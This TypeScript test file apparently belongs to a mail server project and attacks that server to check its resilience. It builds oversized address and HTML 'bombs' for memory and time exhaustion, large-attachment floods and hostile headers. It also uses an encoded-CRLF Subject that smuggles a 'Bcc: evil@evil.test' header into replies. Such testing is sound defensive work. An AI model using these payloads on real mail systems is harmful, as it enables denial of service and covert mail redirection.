// Attacks by mail that is slow to read, or grows when it is read.

import type { Api, Inbox, Message } from '../support/api.ts'
import { repliesReadBack } from '../support/hostile-headers.ts'
import { largeMail, measureLargeMail } from '../support/large-mail.ts'
import { sendMail } from '../support/smtp-sender.ts'
import type { Scope } from '../support/until.ts'
import { until } from '../support/until.ts'
import {
  type Attack,
  inMs,
  memoryDuring,
  type Outcome,
  type Stage,
  setStage,
  settle,
  timeUntil,
} from './attack.ts'

const sender = 'stranger@far.test'

async function deliverRaw({ posthorn }: Pick<Stage, 'posthorn'>, to: string, raw: Buffer): Promise<void> {
  const sent = await sendMail(posthorn.smtp, { from: sender, to, raw }, { timeoutMs: 60_000 })
  if (sent.outcome !== 'accepted') throw new Error(`a mail was ${sent.outcome}: ${sent.reply}`)
}

function mail(fields: string[], body: string): Buffer {
  return Buffer.from([...fields, 'Message-ID: <m@far.test>', 'MIME-Version: 1.0', '', body, ''].join('\r\n'))
}

async function countFiled(api: Api, inbox: Inbox, subject: string): Promise<number> {
  const path = `/v1/inboxes/${inbox.id}/messages?direction=inbound&limit=20`
  const { messages } = await api.want<{ messages: Message[] }>(path)
  return messages.filter((message) => message.subject === subject).length
}

/** An address with useless spaces, in four fields, as often as a header may hold it: 240 KB. */
function addressBomb(): Buffer {
  const list = Array.from({ length: 6 }, () => `<a${' '.repeat(9_900)}b@c>`).join(',\r\n ')
  return mail(
    ['From', 'To', 'Cc', 'Reply-To'].map((name) => `${name}: ${list}`),
    'Hello.',
  )
}

async function addressBombs(scope: Scope): Promise<Outcome> {
  const stage = await setStage(scope)
  const { attacker, victim } = stage
  const [target, inbox] = [await attacker.createInbox(), await victim.createInbox()]
  const bomb = addressBomb()
  for (let n = 0; n < 6; n++) await deliverRaw(stage, target.address, bomb)
  await deliverRaw(stage, inbox.address, mail([`From: ${sender}`, 'Subject: plain'], 'Hello.'))
  const tookMs = await timeUntil(() => countFiled(victim, inbox, 'plain'), 60_000)
  return { now: `a plain mail behind them: ${inMs(tookMs)}`, held: tookMs !== null && tookMs < 2000 }
}

/** 5.7 MB with four HTML parts that grow fifteenfold if each empty line gets the margin of ten quotes. */
function htmlBomb(number: number): Buffer {
  const html = Buffer.from(`${'<blockquote>'.repeat(10)}<pre>${'x\n\n\n'.repeat(262_094)}`)
  const encoded = html.toString('base64').replace(/.{76}/g, '$&\r\n')
  const part = `--b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n${encoded}\r\n`
  const fields = [`From: ${sender}`, `Subject: bomb ${number}`, 'Content-Type: multipart/mixed; boundary=b']
  return mail(fields, `--b\r\nContent-Type: text/plain\r\n\r\n\r\nHello.\r\n${part.repeat(4)}--b--`)
}

async function htmlBombs(scope: Scope): Promise<Outcome> {
  const stage = await setStage(scope)
  const { posthorn, attacker } = stage
  const inbox = await attacker.createInbox()
  const bombs = Array.from({ length: 6 }, (_, number) => htmlBomb(number))
  // The reading thread exists from the first mail on.
  await deliverRaw(stage, inbox.address, mail([`From: ${sender}`, 'Subject: plain'], 'Hello.'))
  await until('a plain mail to be filed', () => isFiled(attacker, inbox, 1))
  await settle()
  let statuses = ''
  const list = `/v1/inboxes/${inbox.id}/messages`
  const rose = await memoryDuring(posthorn.pid, async () => {
    await Promise.all(bombs.map((bomb) => deliverRaw(stage, inbox.address, bomb)))
    await until('the bombs to be filed', () => isFiled(attacker, inbox, bombs.length + 1), {
      timeoutMs: 120_000,
    })
    const paths = [list, `/v1/inboxes/${inbox.id}/export`, `/v1/inboxes/${inbox.id}/threads`]
    const answers = await Promise.all(paths.map((path) => attacker.call(path)))
    statuses = answers.map(({ status }) => status).join(' ')
  })
  const largest = await largestText(attacker, inbox)
  const inputs = Math.round(bombs[0]!.length / 1e6)
  return {
    now: `text ${largest.toFixed(1)} MB of ${inputs} MB; memory +${rose} MB; list, export, threads ${statuses}`,
    held: largest * 1e6 <= bombs[0]!.length && rose < 200 && statuses === '200 200 200',
  }
}

async function isFiled(api: Api, inbox: Inbox, count: number): Promise<boolean> {
  const { threads } = await api.want<{ threads: unknown[] }>(`/v1/inboxes/${inbox.id}/threads?limit=100`)
  return threads.length >= count
}

/** The longest text of a message in the inbox, in MB. */
async function largestText(api: Api, inbox: Inbox): Promise<number> {
  const answer = await api.call<{ messages: (Message & { extractedText?: string })[] }>(
    `/v1/inboxes/${inbox.id}/messages?limit=1`,
  )
  const lengths = answer.body.messages.map(
    ({ text, extractedText = '' }) => text.length + extractedText.length,
  )
  return Math.max(...lengths) / 1e6
}

async function encodedBreak(scope: Scope): Promise<Outcome> {
  const stage = await setStage(scope)
  const { attacker, healthy } = stage
  const inbox = await attacker.createInbox()
  const subject = '=?utf-8?q?hello=0D=0ABcc:_evil@evil.test?='
  await deliverRaw(stage, inbox.address, mail(['From: ada@healthy.test', `Subject: ${subject}`], 'Hello.'))
  const path = `/v1/inboxes/${inbox.id}/messages?direction=inbound`
  const received = await until('the mail to be filed', async () => {
    return (await attacker.want<{ messages: Message[] }>(path)).messages[0]
  })
  const { status } = await attacker.call(`/v1/threads/${received.threadId}/replies`, {
    method: 'POST',
    idempotencyKey: 'the-reply',
    body: { targetMessageId: received.id, text: 'An answer.' },
  })
  const tookMs = await timeUntil(() => healthy.copies[0])
  const header = healthy.copies[0]?.raw.toString('latin1').split('\r\n\r\n')[0] ?? ''
  const isWhole = !/^bcc:/im.test(header)
  return { now: `the reply is ${status} and leaves: ${inMs(tookMs)}`, held: tookMs !== null && isWhole }
}

/** Eight large mails with an attachment each, and plain mail of another inbox meanwhile. */
async function largeMails(scope: Scope): Promise<Outcome> {
  const { posthorn, attacker } = await setStage(scope)
  const shape = 'one base64 attachment'
  const mails = Array.from({ length: 8 }, (_, number) => ({ shape, raw: largeMail(shape, number) }))
  const { idleBytes, peakBytes, plainMs } = await measureLargeMail(posthorn, attacker, mails)
  const rose = (peakBytes - idleBytes) >> 20
  const [alone, beside] = [Math.round(plainMs.alone), Math.round(plainMs.beside)]
  return {
    now: `memory +${rose} MB, each byte the same; a plain mail filed in ${beside} ms, ${alone} alone`,
    held: rose < 150 && beside < 1.1 * alone,
  }
}

/** Hostile values in header fields, as often as a campaign would send them. */
async function hostileHeaders(): Promise<Outcome> {
  const { cases, answered, failed } = await repliesReadBack(10_000, 1)
  const rest = failed.length > 0 ? `; ${failed[0]!.slice(0, 100)}` : ''
  return {
    now: `${answered} of ${cases} have somebody to answer; ${failed.length} not answered, or not read back the same${rest}`,
    held: failed.length === 0,
  }
}

export const readingAttacks: Attack[] = [
  {
    name: 'six 1 MB mails with addresses of 9,900 spaces, then a plain mail to another',
    before: 'not within 60 s',
    run: addressBombs,
  },
  {
    name: 'six 5.7 MB mails whose HTML grows when it becomes text',
    before: 'text 130 MB of 6 MB; memory +1,350 MB; list and export 413',
    run: htmlBombs,
  },
  {
    name: 'an encoded line break in a Subject; the thread is answered',
    before: 'the reply is 202 and never leaves',
    run: encodedBreak,
  },
  {
    name: '10,000 mails with hostile headers are answered; each answer is read back by three parsers',
    before: '22 of 300 never written',
    run: hostileHeaders,
  },
  {
    name: 'eight mails of 24 MB at a time',
    before: 'memory +305 to +405 MB; a plain mail filed in 114 ms, 71 alone',
    run: largeMails,
  },
]
